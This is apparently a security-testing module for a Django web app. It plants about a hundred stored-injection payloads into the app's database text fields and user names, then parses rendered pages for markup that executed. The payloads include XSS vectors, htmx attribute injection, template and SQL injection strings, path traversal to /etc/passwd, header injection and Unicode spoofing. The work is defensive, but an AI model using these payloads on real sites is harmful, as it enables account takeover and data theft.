"""A hundred texts that mean harm, and a way to plant them in every text that pages show.

``plant()`` goes over the tables, whatever tables there are: free text in columns and the free text within JSON (what holds a blank; codes,
digests and enumerations hold none, and no service would store these texts there). Each harmful text carries a canary: markup that came
alive shows as an element or attribute named after it, or calls ``window.pwned``.
"""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import count
from typing import Any, TypeAlias

from django.apps import apps
from django.contrib.auth.models import User
from django.db import IntegrityError, models, transaction
from django.utils import timezone

from studio.models import AuditEntry
from synthesis.services.border import clean_text

CANARY = "pwned"
ELSEWHERE = "//canary.example"
LARGE = 5 * 1024 * 1024

MARKUP = [
    "<script>window.pwned()</script>",
    "<ScRiPt src=//canary.example/x.js></sCrIpT>",
    "<script type=module>window.pwned()</script>",
    "<script>alert(1)//",
    "</script><script>window.pwned()</script>",
    "</textarea><script>window.pwned()</script>",
    "</title><script>window.pwned()</script>",
    "</style><script>window.pwned()</script>",
    "--><script>window.pwned()</script>",
    "]]><script>window.pwned()</script>",
    "<img src=x onerror=window.pwned()>",
    "<img src=//canary.example/x.png>",
    "<img src=x:x onerror=alert(1)//",
    "<img srcset='//canary.example/x.png 1x' pwned>",
    "<svg onload=window.pwned()>",
    "<svg><script>window.pwned()</script></svg>",
    "<svg><animate onbegin=window.pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned()'><text y=20>pwned</text></a></svg>",
    "<svg><use href='//canary.example/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=//canary.example></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:window.pwned()'>pwned</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned()&gt;'>",
    "<iframe src=//canary.example></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=//canary.example/x></object>",
    "<embed src=//canary.example/x>",
    "<base href=//canary.example/>",
    "<meta http-equiv=refresh content='0;url=//canary.example'>",
    "<link rel=stylesheet href=//canary.example/x.css>",
    "<link rel=prefetch href=//canary.example/x>",
    "<style>@import '//canary.example/x.css'; body { display: none }</style>",
    "<form action=//canary.example><button pwned>Sign in again</button></form>",
    "<input autofocus onfocus=window.pwned()>",
    "<button formaction=//canary.example pwned>x</button>",
    "<details open ontoggle=window.pwned()>",
    "<video><source onerror=window.pwned()></video>",
    "<audio src=//canary.example/x.mp3 autoplay>",
    "<body onload=window.pwned()>",
    "<div style='position:fixed;inset:0;background:red' pwned>x</div>",
    "<div style='background:url(//canary.example/x.png)' pwned>x</div>",
    "<marquee onstart=window.pwned()>x</marquee>",
    "<template shadowrootmode=open><script>window.pwned()</script></template>",
    "<dialog open pwned>x</dialog>",
    "<a href=javascript:window.pwned() pwned>click</a>",
    "<a href=' \x01javascript:window.pwned()' pwned>click</a>",
    "<a href=//canary.example target=_blank pwned>click</a>",
    "<p id=content pwned>x</p>",
    "<a id=pwned name=defaultView></a><form name=cookie><input name=body></form>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned()>'>",
    "<pwned-element>x</pwned-element>",
]
ATTRIBUTES = [
    '" onmouseover=window.pwned() x="',
    "' onfocus=window.pwned() autofocus x='",
    '"><img src=x onerror=window.pwned()>',
    "'><svg onload=window.pwned()>",
    "` onclick=window.pwned() `",
    '" style="position:fixed" pwned="',
    'x" hx-get="//canary.example" hx-trigger="load" x="',
    "<div hx-get=//canary.example hx-trigger=load pwned>x</div>",
    "<div hx-get=/settings/ hx-trigger=load hx-target=body pwned>x</div>",
    "<div data-hx-post=/sign-out/ data-hx-trigger=load pwned>x</div>",
    "<div hx-on::load='window.pwned()' pwned>x</div>",
    "<div hx-on:click=window.pwned() pwned>x</div>",
    "<div hx-vals='js:{a: window.pwned()}' hx-get=/ hx-trigger=load pwned>x</div>",
    "<div hx-ext=x hx-ws='connect://canary.example' pwned>x</div>",
    "<div hx-swap-oob=true id=content pwned>x</div>",
    "<button popovertarget=person pwned>x</button>",
]
LANGUAGES = [
    "![pwned](//canary.example/x.png)",
    "[click](javascript:window.pwned())",
    "[pwned]: //canary.example 'x'\n[pwned]",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)",
    "javascript:window.pwned()",
    "data:text/html,<script>window.pwned()</script>",
    "{{ 7|add:7 }}{% debug %}{% load x %}{# pwned #}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>${{7*7}}",
    "%s%n%x{0.__class__}%(secret)s",
    "constructor.__proto__.pwned",
    "'; DROP TABLE studio_membership; --",
    "1 OR 1=1 /*",
    "expression(window.pwned()) url(//canary.example/x)",
    "&lt;script&gt;window.pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned()&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &zwj; &#x202e;",
    "%3Cscript%3Ewindow.pwned()%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned()\\u003c/script\\u003e",
    '=HYPERLINK("//canary.example")',
    "\r\nSet-Cookie: pwned=1\r\n\r\n<b pwned>",
    "../../../../etc/passwd",
]
SHAPES = [
    "a\u202eb txt.exe\u202c \u2066x\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\x1b[31mred\x1b[0m \x1b]8;;//canary.example\x07link\x1b]8;;\x07",
    "\x00\x08\x7f\x85 nul",
    "\ud800 lone \udfff",
    "Z" + "\u0351\u0323\u0334" * 60,
    "W" * 400,
    "한" * 300,
    "\u0645" * 200 + " \u05d0" * 50,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\n" * 60 + "far below",
    "\u2028\u2029\u0085 lines",
]
PAYLOADS: tuple[str, ...] = tuple(MARKUP + ATTRIBUTES + LANGUAGES + SHAPES)

CODES = frozenset(
    re.findall(
        r"\w+",
        """
        slug digest sha256 path worker kind domain variation judge judge_version rubric_version status outcome role origin language format
        check_id criterion check exact_digest structural_digest party tag severity failed_check username password email session_key effect
        prefix scopes action object_id key category call_id formality brevity mood tone answered_by fault before after
        """,
    )
)
"""Columns that hold codes: services put nothing else there."""
AnyField: TypeAlias = "models.Field[Any, Any]"
NAMES = frozenset({("tool", "name")})
"""The same for single columns: they stand in addresses."""
OURS = ("synthesis", "judging", "studio")


def clean(text: str) -> str:
    """The text as it passes the border to the database."""
    return clean_text(text)


class Sower:
    """Gives each field the next of the texts, as long as the field is."""

    def __init__(self, first: int = 0) -> None:
        self.turn = count(first)

    def text(self, room: int | None, before: str = "") -> str:
        """The next text; where there is room, all of them."""
        number = next(self.turn) % len(PAYLOADS)
        if room is None or room > 20_000:
            return clean(f"{before} {PAYLOADS[number]} {' '.join(PAYLOADS)}".strip())
        return clean(PAYLOADS[number])[:room]

    def within(self, value: Any) -> Any:
        """JSON with its free texts replaced, and everything else as it was."""
        if isinstance(value, dict):
            return {key: self.within(part) for key, part in value.items()}
        if isinstance(value, list):
            return [self.within(part) for part in value]
        if isinstance(value, str) and " " in value:
            return self.text(2000, value)
        return value


def plant(first: int = 0) -> int:
    """Plant the texts, beginning with number ``first``, in every row there is. Returns how many fields got one."""
    sower, fields = Sower(first), 0
    for model in apps.get_models():
        if model._meta.app_label not in OURS or model is AuditEntry:
            continue
        for row in model._default_manager.order_by("pk")[:200]:
            for field in _texts(model):
                fields += _plant_one(model, row, field, sower)
    # A person's own name stands on every page.
    User.objects.update(first_name="\u202e\u200b\x1b<img src=x onerror=window.pwned()>", last_name=sower.text(150))
    # Entries of the trail are never changed, so they come with theirs.
    for _ in range(len(PAYLOADS) // 3):
        told = {name: sower.text(80) for name in ("actor_name", "label", "note")}
        AuditEntry.objects.create(action="members.role", kind="user", object_id="1", at=timezone.now(), **told)
    return fields


def _plant_one(model: type[models.Model], row: models.Model, field: AnyField, sower: Sower) -> bool:
    """Whether the field took a text: what the database refuses, such as a code of a short list, no service could store either."""
    value = _planted(field, row, sower)
    if value is None:
        return False
    try:
        with transaction.atomic():
            model._default_manager.filter(pk=row.pk).update(**{field.attname: value})
    except IntegrityError:
        return False
    return True


def _texts(model: type[models.Model]) -> Iterator[AnyField]:
    for field in model._meta.concrete_fields:
        text = isinstance(field, models.JSONField | models.CharField | models.TextField) and not isinstance(field, models.SlugField)
        if text and not field.choices and not field.unique and not field.primary_key and not _code(model, field):
            yield field


def _code(model: type[models.Model], field: AnyField) -> bool:
    return field.name in CODES or (model._meta.model_name, field.name) in NAMES


def _planted(field: AnyField, row: models.Model, sower: Sower) -> Any:
    """The field's new value; None leaves it."""
    value = getattr(row, field.attname)
    if isinstance(field, models.JSONField):
        planted = sower.within(value)
        return planted if planted != value else None
    # What is empty often has to be: a reason without a failure is no row of ours.
    if not value:
        return None
    return sower.text(field.max_length)


class Alive(HTMLParser):
    """Finds what came alive: elements and attributes that no template of ours writes."""

    NEVER = frozenset({"iframe", "object", "embed", "base", "style", "math", "marquee", "audio", "video", "foreignobject", "mglyph"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        alive = tag in self.NEVER or CANARY in tag or (tag == "script" and not given.get("src", "").startswith("/static/"))
        alive |= tag == "meta" and "http-equiv" in given
        for name, value in given.items():
            alive |= name.startswith(("on", "hx-on", "data-hx-", "srcdoc")) or name == "style" or CANARY in name
            alive |= name in {"id", "name"} and value.startswith(CANARY)
            alive |= name.startswith("hx-") and (CANARY in value or ELSEWHERE in value)
            if name in {"href", "src", "srcset", "action", "formaction", "data", "xlink:href"}:
                alive |= value.strip("\x00\x01 ").lower().startswith(("javascript:", "data:", "//", "http"))
        if alive:
            self.found.append(self.get_starttag_text() or tag)
